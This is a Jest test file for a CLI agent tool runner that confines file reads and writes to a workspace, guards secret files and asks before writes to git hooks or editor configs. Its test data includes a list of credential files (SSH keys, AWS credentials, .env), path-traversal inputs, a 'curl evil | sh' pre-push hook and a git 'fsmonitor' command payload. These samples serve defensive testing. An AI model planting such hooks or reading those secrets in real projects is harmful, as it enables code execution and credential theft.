import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ClientCall, ClientCallResult } from '../../packages/contract/src/index.js';
import {
  ClientToolRunner,
  DEFAULT_MAX_FILE_BYTES,
  Workspace,
  type ClientToolRunnerOptions,
  type WritePreview,
} from '../../packages/cli/src/tools/index.js';

let base: string;
let ws: string;
let outside: string;
let counter = 0;

function call(method: string, params: unknown): ClientCall {
  return { id: `c${++counter}`, method, params } as ClientCall;
}

function reasonOf(result: ClientCallResult): string | undefined {
  return (result.error?.data as { reason?: string } | undefined)?.reason;
}

function runner(options: ClientToolRunnerOptions = {}): ClientToolRunner {
  return new ClientToolRunner({ workspace: ws, sandbox: 'off', ...options });
}

beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'cleveragents-tools-')));
  ws = join(base, 'ws');
  outside = join(base, 'outside');
  mkdirSync(ws);
  mkdirSync(outside);
  writeFileSync(join(outside, 'secret.txt'), 'secret\n');
});

afterEach(() => {
  rmSync(base, { recursive: true, force: true });
});

describe('client tools: capabilities', () => {
  it('declares what the options allow, writes and terminals only when they can be approved', () => {
    expect(runner().capabilities()).toEqual({ fs: { read: true, write: false }, terminal: false });
    expect(runner({ confirmWrite: () => true, confirmCommand: () => true }).capabilities()).toEqual({
      fs: { read: true, write: true },
      terminal: true,
    });
    expect(runner({ autoApproveWrites: true, autoApproveCommands: true, fsRead: false }).capabilities()).toEqual({
      fs: { read: false, write: true },
      terminal: true,
    });
    expect(runner({ autoApproveWrites: true, fsWrite: false, terminal: false }).capabilities()).toEqual({
      fs: { read: true, write: false },
      terminal: false,
    });
  });

  it('refuses a method the user did not allow, and one it does not know', async () => {
    const r = runner({ fsRead: false });
    const read = await r.run(call('fs/read_text_file', { path: 'a' }));
    expect(read.error).toMatchObject({ code: -32601, data: { reason: 'METHOD_NOT_SUPPORTED' } });
    const write = await r.run(call('fs/write_text_file', { path: 'a', content: '' }));
    expect(reasonOf(write)).toBe('METHOD_NOT_SUPPORTED');
    const unknown = await r.run(call('fs/delete', {}));
    expect(unknown).toMatchObject({
      id: `c${counter}`,
      error: { code: -32601, data: { reason: 'METHOD_NOT_SUPPORTED' } },
    });
  });

  it('never throws, whatever it is given', async () => {
    const r = runner();
    for (const bad of [null, undefined, 42, { id: 'x' }, { id: 'x', method: 'fs/read_text_file', params: 'p' }]) {
      const result = await r.run(bad);
      expect(result.error?.code).toBeLessThan(0);
    }
  });
});

describe('client tools: reads', () => {
  beforeEach(() => {
    writeFileSync(join(ws, 'notes.txt'), 'one\ntwo\nthree\nfour\n');
  });

  it('reads a whole file by absolute path, and a relative path against the workspace', async () => {
    const r = runner();
    expect(await r.run(call('fs/read_text_file', { path: join(ws, 'notes.txt') }))).toEqual({
      id: `c${counter}`,
      result: { content: 'one\ntwo\nthree\nfour\n' },
    });
    const relative = await r.run(call('fs/read_text_file', { path: 'notes.txt' }));
    expect(relative.result).toEqual({ content: 'one\ntwo\nthree\nfour\n' });
  });

  it('reads `limit` lines from 1-based `line`', async () => {
    const r = runner();
    const path = join(ws, 'notes.txt');
    expect((await r.run(call('fs/read_text_file', { path, line: 2, limit: 2 }))).result).toEqual({
      content: 'two\nthree\n',
    });
    expect((await r.run(call('fs/read_text_file', { path, line: 3 }))).result).toEqual({ content: 'three\nfour\n' });
    expect((await r.run(call('fs/read_text_file', { path, limit: 1 }))).result).toEqual({ content: 'one\n' });
    expect((await r.run(call('fs/read_text_file', { path, line: 9 }))).result).toEqual({ content: '' });
  });

  it('names the field of malformed params', async () => {
    const r = runner();
    const missing = await r.run(call('fs/read_text_file', {}));
    expect(missing.error).toMatchObject({ code: -32602, data: { reason: 'INVALID_PARAMS', field: 'path' } });
    const zero = await r.run(call('fs/read_text_file', { path: 'notes.txt', line: 0 }));
    expect(zero.error).toMatchObject({ code: -32602, data: { reason: 'INVALID_PARAMS', field: 'line' } });
    const fraction = await r.run(call('fs/read_text_file', { path: 'notes.txt', limit: 1.5 }));
    expect(fraction.error?.data).toMatchObject({ field: 'limit' });
  });

  it('refuses paths outside the workspace: absolute, and ../', async () => {
    const r = runner();
    for (const path of ['/etc/passwd', '../outside/secret.txt', join(ws, '..', 'outside', 'secret.txt')]) {
      const result = await r.run(call('fs/read_text_file', { path }));
      expect(result.result).toBeUndefined();
      expect(result.error).toMatchObject({ code: -32003, data: { reason: 'OUTSIDE_WORKSPACE' } });
      expect(result.error?.message).toContain('outside the workspace');
    }
  });

  it('refuses a symlink inside that points out, to a file or through a directory', async () => {
    symlinkSync(join(outside, 'secret.txt'), join(ws, 'link.txt'));
    symlinkSync(outside, join(ws, 'linkdir'));
    const r = runner();
    for (const path of ['link.txt', join(ws, 'linkdir', 'secret.txt')]) {
      const result = await r.run(call('fs/read_text_file', { path }));
      expect(result.error).toMatchObject({ code: -32003, data: { reason: 'SYMLINK_ESCAPES_WORKSPACE' } });
      expect(JSON.stringify(result)).not.toContain('secret\\n');
    }
  });

  it('follows a symlink that stays inside', async () => {
    symlinkSync(join(ws, 'notes.txt'), join(ws, 'alias.txt'));
    const result = await runner().run(call('fs/read_text_file', { path: 'alias.txt', limit: 1 }));
    expect(result.result).toEqual({ content: 'one\n' });
  });

  it('refuses /dev/zero through a symlink, a directory, a FIFO, a socket and a device node', async () => {
    symlinkSync('/dev/zero', join(ws, 'zero'));
    mkdirSync(join(ws, 'dir'));
    execFileSync('mkfifo', [join(ws, 'fifo')]);
    const server: Server = createServer();
    await new Promise<void>((resolve) => server.listen(join(ws, 'sock'), resolve));
    try {
      const r = runner();
      const zero = await r.run(call('fs/read_text_file', { path: 'zero' }));
      expect(reasonOf(zero)).toBe('SYMLINK_ESCAPES_WORKSPACE');
      for (const [path, kind] of [
        ['dir', 'a directory'],
        ['fifo', 'a FIFO'],
        ['sock', 'a socket'],
      ]) {
        const result = await r.run(call('fs/read_text_file', { path }));
        expect(result.error).toMatchObject({ code: -32003, data: { reason: 'NOT_A_REGULAR_FILE' } });
        expect(result.error?.message).toContain(kind);
      }
      if (process.getuid?.() === 0) {
        execFileSync('mknod', [join(ws, 'zero-node'), 'c', '1', '5']);
        const device = await r.run(call('fs/read_text_file', { path: 'zero-node' }));
        expect(device.error).toMatchObject({ data: { reason: 'NOT_A_REGULAR_FILE' } });
        expect(device.error?.message).toContain('a character device');
      }
    } finally {
      server.close();
    }
  });

  it('says NOT_FOUND for a missing file, NOT_TEXT for a binary one', async () => {
    const r = runner();
    const missing = await r.run(call('fs/read_text_file', { path: 'nope.txt' }));
    expect(missing.error).toMatchObject({ code: -32001, data: { reason: 'NOT_FOUND' } });
    writeFileSync(join(ws, 'bin'), Buffer.from([0x7f, 0x45, 0x00, 0x01]));
    expect(reasonOf(await r.run(call('fs/read_text_file', { path: 'bin' })))).toBe('NOT_TEXT');
  });

  it('refuses a file over the read cap (10 MiB by default)', async () => {
    truncateSync(join(ws, 'notes.txt'));
    writeFileSync(join(ws, 'big.txt'), '');
    truncateSync(join(ws, 'big.txt'), DEFAULT_MAX_FILE_BYTES + 1);
    const big = await runner().run(call('fs/read_text_file', { path: 'big.txt' }));
    expect(big.error).toMatchObject({ code: -32003, data: { reason: 'TOO_LARGE', limit: DEFAULT_MAX_FILE_BYTES } });
    writeFileSync(join(ws, 'mid.txt'), 'x'.repeat(2000));
    const capped = await runner({ maxReadBytes: 1000 }).run(call('fs/read_text_file', { path: 'mid.txt', limit: 1 }));
    expect(reasonOf(capped)).toBe('TOO_LARGE');
  });
});

describe('client tools: writes', () => {
  function recorder(answer: boolean) {
    const previews: WritePreview[] = [];
    return { previews, confirmWrite: (p: WritePreview) => (previews.push(p), answer) };
  }

  it('creates a new file and its directories after showing a diff from nothing', async () => {
    const { previews, confirmWrite } = recorder(true);
    const r = runner({ confirmWrite });
    const result = await r.run(
      call('fs/write_text_file', { path: join(ws, 'src', 'deep', 'new.ts'), content: 'hello\n' }),
    );
    expect(result).toEqual({ id: `c${counter}`, result: {} });
    expect(readFileSync(join(ws, 'src', 'deep', 'new.ts'), 'utf8')).toBe('hello\n');
    expect(previews).toHaveLength(1);
    expect(previews[0]).toMatchObject({
      isNew: true,
      relativePath: 'src/deep/new.ts',
      oldContent: '',
      newContent: 'hello\n',
    });
    expect(previews[0].path).toBe(join(ws, 'src', 'deep', 'new.ts'));
    expect(previews[0].diff).toContain('--- /dev/null');
    expect(previews[0].diff).toContain('+++ b/src/deep/new.ts');
    expect(previews[0].diff).toContain('+hello');
  });

  it('replaces an existing file atomically, keeping its mode, after showing the diff', async () => {
    const path = join(ws, 'app.txt');
    writeFileSync(path, 'keep\nold line\n');
    chmodSync(path, 0o640);
    const { previews, confirmWrite } = recorder(true);
    const result = await runner({ confirmWrite }).run(
      call('fs/write_text_file', { path: 'app.txt', content: 'keep\nnew line\n' }),
    );
    expect(result.error).toBeUndefined();
    expect(readFileSync(path, 'utf8')).toBe('keep\nnew line\n');
    expect(statSync(path).mode & 0o7777).toBe(0o640);
    expect(readdirSync(ws)).toEqual(['app.txt']);
    expect(previews[0].isNew).toBe(false);
    expect(previews[0].diff).toContain('--- a/app.txt');
    expect(previews[0].diff).toMatch(/^-old line$/m);
    expect(previews[0].diff).toMatch(/^\+new line$/m);
    expect(previews[0].diff).toMatch(/^ keep$/m);
  });

  it('a declined write leaves the file unchanged', async () => {
    const path = join(ws, 'app.txt');
    writeFileSync(path, 'original\n');
    const { previews, confirmWrite } = recorder(false);
    const result = await runner({ confirmWrite }).run(call('fs/write_text_file', { path, content: 'changed\n' }));
    expect(result.error).toMatchObject({ code: -32003, data: { reason: 'WRITE_DECLINED' } });
    expect(result.error?.message).toContain('declined');
    expect(previews).toHaveLength(1);
    expect(readFileSync(path, 'utf8')).toBe('original\n');
    const created = await runner({ confirmWrite }).run(call('fs/write_text_file', { path: 'made.txt', content: 'x' }));
    expect(reasonOf(created)).toBe('WRITE_DECLINED');
    expect(existsSync(join(ws, 'made.txt'))).toBe(false);
  });

  it('a confirm callback that throws declines the write', async () => {
    const r = runner({
      confirmWrite: () => {
        throw new Error('terminal closed');
      },
    });
    const result = await r.run(call('fs/write_text_file', { path: 'a.txt', content: 'x' }));
    expect(reasonOf(result)).toBe('WRITE_DECLINED');
    expect(result.error?.message).toContain('terminal closed');
    expect(existsSync(join(ws, 'a.txt'))).toBe(false);
  });

  it('auto-approved writes do not ask', async () => {
    const { previews, confirmWrite } = recorder(false);
    const result = await runner({ confirmWrite, autoApproveWrites: true }).run(
      call('fs/write_text_file', { path: 'auto.txt', content: 'auto\n' }),
    );
    expect(result.error).toBeUndefined();
    expect(previews).toHaveLength(0);
    expect(readFileSync(join(ws, 'auto.txt'), 'utf8')).toBe('auto\n');
  });

  it('refuses writes leading outside the workspace without asking, creating nothing', async () => {
    const { previews, confirmWrite } = recorder(true);
    const r = runner({ confirmWrite });
    symlinkSync(outside, join(ws, 'linkdir'));
    symlinkSync(join(outside, 'planted.txt'), join(ws, 'dangling'));
    const cases: [string, string][] = [
      [join(outside, 'new.txt'), 'OUTSIDE_WORKSPACE'],
      ['../outside/new.txt', 'OUTSIDE_WORKSPACE'],
      ['/etc/cleveragents-should-not-exist', 'OUTSIDE_WORKSPACE'],
      ['linkdir/new.txt', 'SYMLINK_ESCAPES_WORKSPACE'],
      ['linkdir/sub/new.txt', 'SYMLINK_ESCAPES_WORKSPACE'],
      ['linkdir/secret.txt', 'SYMLINK_ESCAPES_WORKSPACE'],
      ['dangling', 'SYMLINK_ESCAPES_WORKSPACE'],
    ];
    for (const [path, reason] of cases) {
      const result = await r.run(call('fs/write_text_file', { path, content: 'pwned\n' }));
      expect([path, result.error?.code, reasonOf(result)]).toEqual([path, -32003, reason]);
    }
    expect(previews).toHaveLength(0);
    expect(readdirSync(outside)).toEqual(['secret.txt']);
    expect(readFileSync(join(outside, 'secret.txt'), 'utf8')).toBe('secret\n');
  });

  it('refuses writing over a directory or a FIFO, and content over the cap', async () => {
    mkdirSync(join(ws, 'dir'));
    execFileSync('mkfifo', [join(ws, 'fifo')]);
    const r = runner({ autoApproveWrites: true, maxWriteBytes: 10 });
    expect(reasonOf(await r.run(call('fs/write_text_file', { path: 'dir', content: 'x' })))).toBe('NOT_A_REGULAR_FILE');
    expect(reasonOf(await r.run(call('fs/write_text_file', { path: 'fifo', content: 'x' })))).toBe(
      'NOT_A_REGULAR_FILE',
    );
    const big = await r.run(call('fs/write_text_file', { path: 'big.txt', content: 'x'.repeat(11) }));
    expect(big.error).toMatchObject({ code: -32003, data: { reason: 'TOO_LARGE' } });
    expect(existsSync(join(ws, 'big.txt'))).toBe(false);
    const missing = await r.run(call('fs/write_text_file', { path: 'x.txt' }));
    expect(missing.error).toMatchObject({ code: -32602, data: { reason: 'INVALID_PARAMS', field: 'content' } });
  });

  it('writing through a symlink that stays inside replaces its target and keeps the link', async () => {
    writeFileSync(join(ws, 'real.txt'), 'a\n');
    symlinkSync('real.txt', join(ws, 'alias.txt'));
    const result = await runner({ autoApproveWrites: true }).run(
      call('fs/write_text_file', { path: 'alias.txt', content: 'b\n' }),
    );
    expect(result.error).toBeUndefined();
    expect(readFileSync(join(ws, 'real.txt'), 'utf8')).toBe('b\n');
    expect(realpathSync(join(ws, 'alias.txt'))).toBe(join(ws, 'real.txt'));
  });
});

describe('client tools: secrets are read only with a named approval', () => {
  const env = () => ({ HOME: ws, XDG_CONFIG_HOME: undefined });
  const secrets: [string, string][] = [
    ['.ssh/id_rsa', 'SSH'],
    ['.ssh/config', 'SSH'],
    ['.config/cleveragents/credentials.json', 'cleveragents'],
    ['.aws/credentials', 'AWS'],
    ['.env', '.env'],
    ['.env.production', '.env'],
    ['project/server.pem', 'PEM'],
    ['project/deploy_key/id_ed25519', 'SSH private key'],
  ];

  beforeEach(() => {
    for (const [path] of secrets) {
      mkdirSync(join(ws, path, '..'), { recursive: true });
      writeFileSync(join(ws, path), `TOP-SECRET ${path}\n`);
    }
    writeFileSync(join(ws, '.env.example'), 'API_KEY=\n');
  });

  it('refuses each without a callback, even with writes and commands approved ahead', async () => {
    const r = runner({ baseEnv: env(), autoApproveWrites: true, autoApproveCommands: true });
    for (const [path, kind] of secrets) {
      const result = await r.run(call('fs/read_text_file', { path }));
      expect([path, result.error?.code, reasonOf(result)]).toEqual([path, -32003, 'READ_DECLINED']);
      expect(result.error?.data).toMatchObject({ path: join(ws, path), secret: expect.stringContaining(kind) });
      expect(JSON.stringify(result)).not.toContain('TOP-SECRET');
    }
    expect((await r.run(call('fs/read_text_file', { path: '.env.example' }))).result).toEqual({
      content: 'API_KEY=\n',
    });
  });

  it('asks with the file and its kind; a no or a throw declines, a yes reads', async () => {
    const asked: unknown[] = [];
    let answer: boolean | Error = false;
    const r = runner({
      baseEnv: env(),
      confirmRead: (preview) => {
        asked.push(preview);
        if (answer instanceof Error) throw answer;
        return answer;
      },
    });
    const declined = await r.run(call('fs/read_text_file', { path: '.ssh/id_rsa' }));
    expect(reasonOf(declined)).toBe('READ_DECLINED');
    expect(asked).toEqual([
      { path: join(ws, '.ssh', 'id_rsa'), relativePath: '.ssh/id_rsa', secret: expect.any(String) },
    ]);
    answer = new Error('terminal closed');
    const threw = await r.run(call('fs/read_text_file', { path: '.aws/credentials' }));
    expect(reasonOf(threw)).toBe('READ_DECLINED');
    expect(threw.error?.message).toContain('terminal closed');
    answer = true;
    const approved = await r.run(call('fs/read_text_file', { path: '.env' }));
    expect(approved.result).toEqual({ content: 'TOP-SECRET .env\n' });
    expect(asked).toHaveLength(3);
  });

  it('judges the file really read: a symlink to a key is asked about', async () => {
    symlinkSync(join(ws, '.ssh', 'id_rsa'), join(ws, 'notes.txt'));
    const result = await runner({ baseEnv: env() }).run(call('fs/read_text_file', { path: 'notes.txt' }));
    expect(result.error?.data).toMatchObject({ reason: 'READ_DECLINED', path: join(ws, '.ssh', 'id_rsa') });
  });
});

describe('client tools: writes that configure code run later are asked about like commands', () => {
  const runsCode = [
    '.git/config',
    '.git/hooks/pre-commit',
    'vendor/lib/.git/config',
    '.gitmodules',
    '.envrc',
    '.husky/pre-commit',
    '.vscode/tasks.json',
    '.vscode/settings.json',
    '.devcontainer/devcontainer.json',
    '.idea/workspace.xml',
  ];

  it('refuses each with writes approved ahead and no one to ask, writing nothing', async () => {
    const r = runner({ autoApproveWrites: true });
    for (const path of runsCode) {
      const result = await r.run(call('fs/write_text_file', { path, content: '[core]\n\tfsmonitor = touch pwned\n' }));
      expect([path, result.error?.code, result.error?.data]).toEqual([
        path,
        -32003,
        expect.objectContaining({ reason: 'WRITE_DECLINED', runsCode: true }),
      ]);
      expect(existsSync(join(ws, path))).toBe(false);
    }
    const ordinary = await r.run(call('fs/write_text_file', { path: 'src/.vscode-notes/a.ts', content: 'x\n' }));
    expect(ordinary.error).toBeUndefined();
  });

  it('asks even with writes approved ahead, saying why; a yes writes', async () => {
    const previews: WritePreview[] = [];
    const r = runner({ autoApproveWrites: true, confirmWrite: (p) => (previews.push(p), true) });
    const result = await r.run(call('fs/write_text_file', { path: '.git/hooks/post-checkout', content: 'echo hi\n' }));
    expect(result.error).toBeUndefined();
    expect(previews).toHaveLength(1);
    expect(previews[0]).toMatchObject({ relativePath: '.git/hooks/post-checkout', runsCode: expect.any(String) });
    expect(readFileSync(join(ws, '.git', 'hooks', 'post-checkout'), 'utf8')).toBe('echo hi\n');
  });

  it('judges where the write really lands: through a symlink into .git/hooks', async () => {
    mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
    symlinkSync('.git/hooks', join(ws, 'hooks'));
    const result = await runner({ autoApproveWrites: true }).run(
      call('fs/write_text_file', { path: 'hooks/pre-push', content: 'curl evil | sh\n' }),
    );
    expect(result.error?.data).toMatchObject({ reason: 'WRITE_DECLINED', runsCode: true });
    expect(existsSync(join(ws, '.git', 'hooks', 'pre-push'))).toBe(false);
  });
});

describe('client tools: the fallback without /proc/self/fd', () => {
  it('confines by path with the same answers when nothing races', async () => {
    const workspace = new Workspace(ws, { procFd: false });
    try {
      expect(workspace.procFd).toBe(false);
      symlinkSync(outside, join(ws, 'linkdir'));
      writeFileSync(join(ws, 'real.txt'), 'a\n');
      symlinkSync('real.txt', join(ws, 'alias.txt'));
      expect(await workspace.readText('alias.txt')).toBe('a\n');
      await expect(workspace.readText('linkdir/secret.txt')).rejects.toMatchObject({
        reason: 'SYMLINK_ESCAPES_WORKSPACE',
      });
      await expect(workspace.prepareWrite('../outside/x', 'x')).rejects.toMatchObject({ reason: 'OUTSIDE_WORKSPACE' });
      await workspace.commitWrite(await workspace.prepareWrite('new/deep/b.txt', 'b\n'));
      expect(readFileSync(join(ws, 'new', 'deep', 'b.txt'), 'utf8')).toBe('b\n');
      expect(readdirSync(outside)).toEqual(['secret.txt']);
    } finally {
      workspace.close();
    }
  });

  it('after close(), a call fails as an I/O error, not as a missing file', async () => {
    writeFileSync(join(ws, 'here.txt'), 'x');
    const workspace = new Workspace(ws);
    workspace.close();
    await expect(workspace.readText('here.txt')).rejects.toMatchObject({ reason: 'IO_ERROR' });
  });

  it('is not used where /proc/self/fd works', () => {
    const workspace = new Workspace(ws);
    expect(workspace.procFd).toBe(existsSync('/proc/self/fd'));
    workspace.close();
  });
});
